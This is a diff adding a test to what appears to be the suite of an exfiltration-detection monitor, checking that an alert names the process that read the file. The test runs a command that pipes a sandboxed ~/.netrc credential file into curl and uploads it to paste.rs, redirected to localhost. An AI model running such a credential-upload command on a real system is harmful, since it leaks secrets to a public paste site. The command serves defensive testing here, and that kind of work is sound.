@@ -111,3 +111,18 @@ def test_dns_queries_are_never_uploads(monitor, standin, resolver, fake_home, tm
     assert_alert(mine, "T1567.003")
     dns = [r for r in mine if get(r, "destination.port") == 53 or get(r, "destination.ip") == RESOLVER_ADDRESS]
     assert not dns, f"a DNS query scored as an upload: {[get(r, 'event.reason') for r in dns]}"
+
+
+def test_reason_names_the_real_reader(monitor, standin, fake_home):
+    """`timeout 5 cat KEY | curl ...`: the reason names cat (the reader), not timeout."""
+    from harness.config import HTTPS_PORT
+    cmd = (f"timeout 5 cat {fake_home.path / '.netrc'} | curl -sk --resolve paste.rs:{HTTPS_PORT}:127.0.0.1 "
+           f"-o /dev/null --data-binary @- https://paste.rs:{HTTPS_PORT}/")
+    result = subprocess.run(["bash", "-c", cmd], env=fake_home.env(), capture_output=True, text=True, timeout=60)
+    assert result.returncode == 0, result.stderr
+    monitor.poll_for(lambda r: is_alert(r) and get(r, "destination.domain") == "paste.rs", 20)
+    monitor.stop()
+    found = assert_alert([r for r in monitor.records() if get(r, "destination.domain") == "paste.rs"], "T1567.003")
+    reason = get(found[-1], "event.reason")
+    assert reason.startswith("curl uploaded"), reason
+    assert "after cat read ~/.netrc" in reason, reason
